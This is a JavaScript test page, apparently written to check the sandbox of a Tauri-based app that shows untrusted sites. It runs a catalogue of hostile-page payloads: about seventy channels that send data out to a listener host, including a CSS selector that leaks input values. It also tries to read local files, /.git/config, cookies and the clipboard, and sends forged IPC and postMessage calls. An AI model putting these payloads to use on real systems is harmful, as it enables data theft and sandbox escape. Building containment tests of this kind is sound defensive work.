// What a hostile page of a site attempts. `OUT` tries to reach a listener that counts who comes, each under its own name; what
// is in `IN` says itself what it got, and nothing where it was refused. The journey names the listener in `LEAK`.
'use strict';
const at = (name) => `http://${LEAK}/${encodeURIComponent(name)}`;
const add = (tag, of, parent = document.body) => { const one = Object.assign(document.createElement(tag), of); parent.append(one); return one; };
const html = (text) => { const one = document.createElement('div'); one.innerHTML = text; document.body.append(one); return one; };
const css = (text) => add('style', { textContent: text }, document.head);
const link = (rel, name, more = {}) => add('link', { rel, href: at(name), ...more }, document.head);

const OUT = {
  'fetch': (name) => fetch(at(name)),
  'fetch no-cors': (name) => fetch(at(name), { mode: 'no-cors' }),
  'fetch keepalive': (name) => fetch(at(name), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
  'XMLHttpRequest': (name) => { const x = new XMLHttpRequest(); x.open('GET', at(name)); x.send(); },
  'XMLHttpRequest that waits': (name) => { const x = new XMLHttpRequest(); x.open('GET', at(name), false); x.send(); },
  'WebSocket': (name) => new WebSocket(at(name).replace('http', 'ws')),
  'EventSource': (name) => new EventSource(at(name)),
  'sendBeacon': (name) => navigator.sendBeacon(at(name), 'x'),
  'WebTransport': (name) => new WebTransport(at(name).replace('http:', 'https:')),
  'img': (name) => add('img', { src: at(name) }),
  'img srcset': (name) => add('img', { srcset: `${at(name)} 1x` }),
  'new Image': (name) => { new Image().src = at(name); },
  'picture source': (name) => html(`<picture><source srcset="${at(name)}"><img src="none.png"></picture>`),
  'input of type image': (name) => add('input', { type: 'image', src: at(name) }),
  'body background': (name) => document.body.setAttribute('background', at(name)),
  'table background': (name) => html(`<table background="${at(name)}"><tr><td>x</table>`),
  'video': (name) => add('video', { src: at(name), preload: 'auto' }),
  'video poster': (name) => add('video', { poster: at(name) }),
  'audio': (name) => add('audio', { src: at(name), preload: 'auto', autoplay: true }),
  'track': (name) => html(`<video><track default kind="captions" src="${at(name)}"></video>`),
  'style background': (name) => html(`<p style="background:url('${at(name)}')">x</p>`),
  'style @import': (name) => css(`@import url("${at(name)}");`),
  'font face': (name) => { css(`@font-face{font-family:leak;src:url("${at(name)}")}`); html('<p style="font-family:leak">words</p>'); },
  'style cursor': (name) => html(`<p style="cursor:url('${at(name)}'),auto">x</p>`),
  'style list image': (name) => html(`<ul style="list-style-image:url('${at(name)}')"><li>x</ul>`),
  'style content': (name) => css(`body::after{content:url("${at(name)}")}`),
  'style that reads a value': (name) => { css(`input[value^="s"]{background:url("${at(name)}")}`); add('input', { value: 'secret' }).setAttribute('value', 'secret'); },
  'style mask': (name) => html(`<p style="mask-image:url('${at(name)}');-webkit-mask-image:url('${at(name)}')">x</p>`),
  'style image-set': (name) => html(`<p style="background:image-set('${at(name)}' 1x)">x</p>`),
  'svg image': (name) => html(`<svg><image href="${at(name)}" width="9" height="9"/></svg>`),
  'svg use': (name) => html(`<svg><use href="${at(name)}#a"/></svg>`),
  'svg filter image': (name) => html(`<svg><filter id="f"><feImage href="${at(name)}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`),
  'stylesheet': (name) => link('stylesheet', name),
  'icon': (name) => link('icon', name),
  'manifest': (name) => link('manifest', name),
  'preload': (name) => link('preload', name, { as: 'image' }),
  'preload as fetch': (name) => link('preload', name, { as: 'fetch', crossOrigin: 'anonymous' }),
  'modulepreload': (name) => link('modulepreload', name),
  'prefetch': (name) => link('prefetch', name),
  'prerender': (name) => link('prerender', name),
  'preconnect': () => link('preconnect', 'preconnect'),
  'dns-prefetch': () => link('dns-prefetch', 'dns-prefetch'),
  'speculation rules': (name) => add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [at(name)] }] }) }, document.head),
  'script': (name) => add('script', { src: at(name) }),
  'module script': (name) => add('script', { type: 'module', src: at(name) }),
  'module that imports': (name) => add('script', { type: 'module', textContent: `import ${JSON.stringify(at(name))}` }),
  'import()': (name) => import(at(name)),
  'document.write of a script': (name) => add('script', { textContent: `document.open; document.body.insertAdjacentHTML('beforeend', '<script src="${at(name)}"><\\/script>')` }),
  'iframe': (name) => add('iframe', { src: at(name) }),
  'iframe srcdoc': (name) => add('iframe', { srcdoc: `<img src="${at(name)}">` }),
  'iframe of a blob': (name) => add('iframe', { src: URL.createObjectURL(new Blob([`<img src="${at(name)}">`], { type: 'text/html' })) }),
  'iframe of data': (name) => add('iframe', { src: `data:text/html,<img src="${at(name)}">` }),
  'object': (name) => add('object', { data: at(name) }),
  'embed': (name) => add('embed', { src: at(name) }),
  'form into a new window': (name) => html(`<form action="${at(name)}" method="post" target="_blank"></form>`).firstChild.submit(),
  'ping of a link': (name) => { const a = html(`<a href="#x" ping="${at(name)}">x</a>`).firstChild; a.click(); },
  'link into a new window': (name) => html(`<a href="${at(name)}" target="_blank">x</a>`).firstChild.click(),
  'link to the top': (name) => html(`<a href="${at(name)}" target="_top">x</a>`).firstChild.click(),
  'link to the parent': (name) => html(`<a href="${at(name)}" target="_parent">x</a>`).firstChild.click(),
  'window.open': (name) => window.open(at(name)),
  'top.location': (name) => { top.location = at(name); },
  'top.location.replace': (name) => top.location.replace(at(name)),
  'parent.location': (name) => { parent.location.href = at(name); },
  'base': (name) => { const base = add('base', { href: at(`${name}/`) }, document.head); add('img', { src: 'relative.png' }); setTimeout(() => base.remove(), 100); },
  'Worker': (name) => new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at(name))})`]))),
  'SharedWorker': (name) => new SharedWorker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at(name))})`]))),
  'AudioWorklet': (name) => new AudioContext().audioWorklet.addModule(at(name)),
  'paint worklet': (name) => CSS.paintWorklet.addModule(at(name)),
  'RTCPeerConnection': () => { const rtc = new RTCPeerConnection({ iceServers: [{ urls: `stun:${LEAK}` }, { urls: `turn:${LEAK}?transport=tcp`, username: 'a', credential: 'b' }] }); rtc.createDataChannel('x'); return rtc.createOffer().then((offer) => rtc.setLocalDescription(offer)); },
};

const IN = {
  'the document of the window': () => parent.document.title,
  'the document of the top': () => top.document.title,
  'the address of the window': () => parent.location.href,
  'the frame that holds it': () => frameElement?.id ?? frameElement,
  'localStorage': () => { localStorage.setItem('a', 'b'); return 'kept'; },
  'sessionStorage': () => { sessionStorage.setItem('a', 'b'); return 'kept'; },
  'indexedDB': () => new Promise((done, fail) => { const open = indexedDB.open('a'); open.onsuccess = () => done('opened'); open.onerror = fail; }),
  'caches': () => caches.open('a').then(() => 'opened'),
  'cookies': () => { document.cookie = 'a=b'; return document.cookie; },
  'alert': () => { const begun = performance.now(); alert('x'); return performance.now() - begun > 200 ? 'shown' : ''; },
  'confirm': () => (confirm('x') ? 'answered' : ''),
  'prompt': () => prompt('x') ?? '',
  'print': () => { const begun = performance.now(); print(); return performance.now() - begun > 200 ? 'shown' : ''; },
  'eval': () => eval('"ran"'),
  'Function': () => new Function('return "ran"')(),
  'setTimeout of text': () => { window.ran = ''; setTimeout('window.ran = "ran"', 0); return new Promise((done) => setTimeout(() => done(window.ran), 50)); },
  'a window of its own': () => (window.open('about:blank') ? 'opened' : ''),
  'reading the clipboard': () => navigator.clipboard.readText().then(() => 'read'),
  'writing the clipboard': () => navigator.clipboard.writeText('x').then(() => 'written'),
  'copying': () => (document.execCommand('copy') ? 'copied' : ''),
  'pasting': () => (document.execCommand('paste') ? 'pasted' : ''),
  'where the person is': () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(() => done('known'), fail)),
  'the microphone': () => navigator.mediaDevices.getUserMedia({ audio: true }).then(() => 'heard'),
  'the screen': () => navigator.mediaDevices.getDisplayMedia().then(() => 'seen'),
  'notifications': () => Notification.requestPermission().then((said) => (said === 'granted' ? said : '')),
  'full screen': () => document.documentElement.requestFullscreen().then(() => 'full'),
  'the pointer': () => Promise.resolve(document.body.requestPointerLock()).then(() => (document.pointerLockElement ? 'locked' : '')),
  'document.domain': () => { document.domain = 'localhost'; return 'set'; },
  'a service worker': () => navigator.serviceWorker.register('kit.js').then(() => 'registered'),
  'the window’s own calls': () => (typeof __TAURI_INTERNALS__ === 'undefined' && typeof __TAURI__ === 'undefined' ? '' : 'there'),
  'a forged call': () => { window.webkit.messageHandlers.ipc.postMessage(JSON.stringify({ cmd: 'submit', callback: 1, error: 2, payload: { command: { type: 'workspace.sample' } } })); return ''; },
  'ipc:': () => fetch('ipc://localhost/query', { method: 'POST', body: '{}' }).then((answer) => `answered ${answer.status}`),
  'http://ipc.localhost': () => fetch('http://ipc.localhost/query', { method: 'POST', body: '{}' }).then((answer) => `answered ${answer.status}`),
  'the interface’s files': () => fetch('tauri://localhost/index.html').then((answer) => answer.text()),
  'file:': () => fetch('file:///etc/hostname').then((answer) => answer.text()),
  'an image of file:': () => new Promise((done, fail) => Object.assign(new Image(), { onload: () => done('loaded'), onerror: fail, src: 'file:///usr/share/pixmaps/debian-logo.png' })),
  'a file above the site': () => fetch('../memo.md').then((answer) => (answer.ok ? answer.text() : '')),
  'a file above, written otherwise': () => fetch('/%2e%2e/memo.md').then((answer) => (answer.ok ? answer.text() : '')),
  'a hidden file': () => fetch('/.git/config').then((answer) => (answer.ok ? answer.text() : '')),
  'a link in the folder': () => fetch('/passwd.txt').then((answer) => (answer.ok ? answer.text() : '')),
  'another site': () => fetch(location.href.replace(/[0-9a-f]{32}/, '0'.repeat(32))).then((answer) => (answer.ok ? answer.text() : '')),
  'the door of the browser': () => fetch(`http://127.0.0.1:${location.port}/`).then((answer) => answer.text()),
  'the socket of the browser': () => new Promise((done, fail) => { const socket = new WebSocket(`ws://127.0.0.1:${location.port}/ws`); socket.onopen = () => done('open'); socket.onerror = fail; }),
  'a javascript: link': () => { window.clicked = ''; html('<a href="javascript:parent.clicked = 1">x</a>').firstChild.click(); return ''; },
  'XSLT': () => { const x = new XSLTProcessor(); x.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="document(\'file:///etc/hostname\')"/></xsl:template></xsl:stylesheet>', 'text/xml')); return x.transformToFragment(document, document)?.textContent.trim() ?? ''; },
  'a protocol of its own': () => { navigator.registerProtocolHandler('web+gloss', `${location.origin}/%s`); return 'registered'; },
  'the window’s history': () => { const before = history.length; history.go(-50); return history.length === before ? '' : 'moved'; },
  'the window’s name': () => { parent.name = 'taken'; return 'set'; },
  'another frame of the window': () => [...Array(parent.frames.length).keys()].map((n) => parent.frames[n]).filter((one) => one !== window).map((one) => one.document.title).join(),
  'USB': () => navigator.usb.getDevices().then(() => 'listed'),
  'wake lock': () => navigator.wakeLock.request('screen').then(() => 'held'),
  'payment': () => new PaymentRequest([{ supportedMethods: 'basic-card' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show().then(() => 'shown'),
};

// Whom the window believes: what follows may only spoil the page's own outlines.
const LIES = {
  'a forged greeting': () => { const channel = new MessageChannel(); channel.port1.onmessage = () => { window.believed = true; }; parent.postMessage({ gloss: '0123456789abcdef0123456789abcdef' }, '*', [channel.port2]); },
  'a thousand forged greetings': () => { for (let n = 0; n < 1000; n++) { const channel = new MessageChannel(); channel.port1.onmessage = () => { window.believed = true; }; parent.postMessage({ gloss: n.toString(16).padStart(32, '0') }, '*', [channel.port2]); } },
  'a greeting with large words': () => parent.postMessage({ gloss: 'x'.repeat(1 << 20) }, '*'),
  'ten thousand messages': () => { for (let n = 0; n < 10_000; n++) parent.postMessage(n, '*'); },
  'a patched port': () => { MessagePort.prototype.postMessage = () => { window.heard = true; }; },
  'a patched elementFromPoint': () => { Document.prototype.elementFromPoint = () => document.body; },
  'a patched getBoundingClientRect': () => { Element.prototype.getBoundingClientRect = () => new DOMRect(0, 0, 1e9, 1e9); },
  'a patched getAttribute': () => { Element.prototype.getAttribute = () => '424242'; },
  'patched listeners': () => { EventTarget.prototype.addEventListener = () => undefined; },
  'a number that is none': () => document.getElementById('out').setAttribute('data-gloss-id', '424242'),
  'a number that is words': () => document.getElementById('more').setAttribute('data-gloss-id', '<b>1</b>'),
};

const within = (time, doing) => Promise.race([doing, new Promise((done) => setTimeout(() => done(''), time))]);

async function attempt() {
  const results = {};
  for (const [name, run] of Object.entries(OUT)) {
    window.at = name;
    try { await within(60, Promise.resolve(run(name))); } catch { /* refused */ }
  }
  for (const [name, run] of Object.entries(IN)) {
    window.at = name;
    try { results[name] = String((await within(400, Promise.resolve(run()))) ?? '').slice(0, 200); } catch { results[name] = ''; }
  }
  for (const [name, run] of Object.entries(LIES)) {
    window.at = name;
    try { run(); } catch { /* refused */ }
  }
  await new Promise((done) => setTimeout(done, 500));
  window.results = { results, out: Object.keys(OUT), lies: Object.keys(LIES), believed: window.believed === true, heard: window.heard === true };
}
void attempt();
